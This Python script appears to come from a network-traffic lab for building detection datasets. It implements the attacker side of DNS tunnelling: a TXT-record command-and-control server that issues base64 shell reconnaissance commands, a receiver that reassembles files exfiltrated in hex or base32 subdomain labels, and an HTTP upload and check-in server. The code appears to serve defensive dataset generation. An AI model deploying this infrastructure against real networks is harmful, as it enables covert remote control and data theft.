#!/usr/bin/python3
"""The attackers' servers of the dns-resolver dataset (dnslib, Debian's
python3-dnslib), each authoritative for its registrable domain:

    dnsserver.py c2    ADDR DOMAIN LOG   TXT command and control
    dnsserver.py exfil ADDR DOMAIN OUT   receives a file in hex or base32 labels
    dnsserver.py http  ADDR PORT DIR     HTTP GET, PUT and POST (the tunnels' far
                                         end; web servers of flows-lab)

c2: an implant polls TXT <nonce>.<bot>.DOMAIN; the answer is a short base64
no-op, or every few polls a task (a base64 shell command); the implant posts
the task's output as TXT queries <hex>.<seq>.<task>.<bot>.r.DOMAIN, answered
with a one-word acknowledgement. Answers carry TTL 0, as C2s do, and the
nonce makes every name unique, so the resolver's cache never answers for the
server.

exfil: names <data>.<seq>.<session>.DOMAIN (hex: one label of up to 62 hex
digits; base32: two labels of base32 without padding); the server writes the
chunks in order to OUT and answers A 198.18.255.1 (hex) or NXDOMAIN
(base32). Names with fewer labels (the resolver's minimised queries) get an
empty NOERROR answer, so the resolver goes on to the full name.
"""
import base64
import binascii
import http.server
import os
import random
import sys
import threading
import time

from dnslib import QTYPE, RCODE, RR, TXT, A, NS, SOA, DNSRecord
from dnslib.server import BaseResolver, DNSLogger, DNSServer


class Authority(BaseResolver):
    def __init__(self, domain, addr):
        self.domain = domain.rstrip(".").lower()
        self.addr = addr
        self.lock = threading.Lock()

    def base(self, request):
        reply = request.reply()
        reply.header.aa = 1
        return reply

    def resolve(self, request, handler):
        q = request.q
        name = str(q.qname).rstrip(".").lower()
        reply = self.base(request)
        if name != self.domain and not name.endswith("." + self.domain):
            reply.header.rcode = RCODE.REFUSED
            reply.header.aa = 0
            return reply
        rel = name[: -len(self.domain)].rstrip(".")
        labels = rel.split(".") if rel else []
        if not labels:
            if q.qtype == QTYPE.NS:
                reply.add_answer(RR(name, QTYPE.NS, ttl=3600, rdata=NS(f"ns1.{self.domain}")))
                reply.add_answer(RR(name, QTYPE.NS, ttl=3600, rdata=NS(f"ns2.{self.domain}")))
            elif q.qtype == QTYPE.A:
                reply.add_answer(RR(name, QTYPE.A, ttl=300, rdata=A("198.18.255.1")))
            else:
                self.soa(reply)
            return reply
        if labels in (["ns1"], ["ns2"]):
            if q.qtype == QTYPE.A:
                reply.add_answer(RR(name, QTYPE.A, ttl=3600, rdata=A(self.addr)))
            else:
                self.soa(reply)
            return reply
        return self.handle(request, reply, name, labels)

    def soa(self, reply):
        reply.add_auth(RR(self.domain, QTYPE.SOA, ttl=0,
                          rdata=SOA(f"ns1.{self.domain}", f"hostmaster.{self.domain}", (1, 3600, 600, 86400, 0))))


class C2(Authority):
    TASKS = ["id", "uname -a", "hostname", "ls -la /home", "cat /etc/os-release", "ip -4 addr",
             "ps -eo pid,comm | head -15", "df -h /", "whoami", "ls /tmp"]

    def __init__(self, domain, addr, log):
        super().__init__(domain, addr)
        self.log = open(log, "a", buffering=1)
        self.rnd = random.Random(7)
        self.polls = 0
        self.next_task = self.rnd.randint(4, 9)
        self.tasks = 0

    def handle(self, request, reply, name, labels):
        q = request.q
        if q.qtype != QTYPE.TXT:
            return reply  # NODATA: minimised queries on the way
        if len(labels) == 2 and labels[1] != "r":  # poll: <nonce>.<bot>
            with self.lock:
                self.polls += 1
                if self.polls >= self.next_task:
                    self.tasks += 1
                    self.next_task = self.polls + self.rnd.randint(4, 9)
                    cmd = self.rnd.choice(self.TASKS)
                    text = base64.b64encode(f"{self.tasks}|{cmd}".encode()).decode()
                else:
                    text = base64.b64encode(self.rnd.randbytes(6)).decode()
            self.log.write(f"{time.time():.3f} poll {name} -> {text}\n")
            reply.add_answer(RR(request.q.qname, QTYPE.TXT, ttl=0, rdata=TXT(text)))
        elif len(labels) == 5 and labels[4] == "r":  # result chunk: <hex>.<seq>.<task>.<bot>.r
            self.log.write(f"{time.time():.3f} result {name}\n")
            reply.add_answer(RR(request.q.qname, QTYPE.TXT, ttl=0, rdata=TXT("ok")))
        return reply


class Exfil(Authority):
    def __init__(self, domain, addr, out):
        super().__init__(domain, addr)
        self.out = out
        self.chunks = {}
        self.enc = "base32" if "telemetry" in domain else "hex"

    def handle(self, request, reply, name, labels):
        want = 4 if self.enc == "base32" else 3  # data label(s), seq, session
        if len(labels) < want:
            return reply  # minimised query: empty non-terminal
        try:
            if self.enc == "hex":
                data = binascii.unhexlify(labels[0])
            else:
                s = (labels[0] + labels[1]).upper()
                data = base64.b32decode(s + "=" * (-len(s) % 8))
            seq = int(labels[want - 2], 16)
        except (ValueError, binascii.Error):
            reply.header.rcode = RCODE.NXDOMAIN
            self.soa(reply)
            return reply
        with self.lock:
            self.chunks[seq] = data
            with open(self.out, "wb") as f:
                for k in sorted(self.chunks):
                    f.write(self.chunks[k])
        if self.enc == "hex" and request.q.qtype == QTYPE.A:
            reply.add_answer(RR(request.q.qname, QTYPE.A, ttl=60, rdata=A("198.18.255.1")))
        elif self.enc == "base32":
            reply.header.rcode = RCODE.NXDOMAIN
            self.soa(reply)
        return reply


class Handler(http.server.SimpleHTTPRequestHandler):
    def do_PUT(self):
        n = int(self.headers.get("Content-Length", 0))
        data = self.rfile.read(n)
        path = os.path.join(self.directory, "upload-" + os.path.basename(self.path))
        open(path, "wb").write(data)
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_POST(self):  # a check-in: read it, answer a few bytes
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        body = b"OK " + os.urandom(8).hex().encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


def main():
    role = sys.argv[1]
    if role == "http":
        addr, port, d = sys.argv[2], int(sys.argv[3]), sys.argv[4]
        srv = http.server.ThreadingHTTPServer((addr, port), lambda *a: Handler(*a, directory=d))
        srv.serve_forever()
        return
    addr, domain, arg = sys.argv[2:5]
    res = C2(domain, addr, arg) if role == "c2" else Exfil(domain, addr, arg)
    quiet = DNSLogger("-recv,-send,-request,-reply,-truncated,-data")
    udp = DNSServer(res, address=addr, port=53, logger=quiet)
    tcp = DNSServer(res, address=addr, port=53, tcp=True, logger=quiet)
    udp.start_thread()
    tcp.start_thread()
    while udp.isAlive():
        time.sleep(1)


if __name__ == "__main__":
    main()
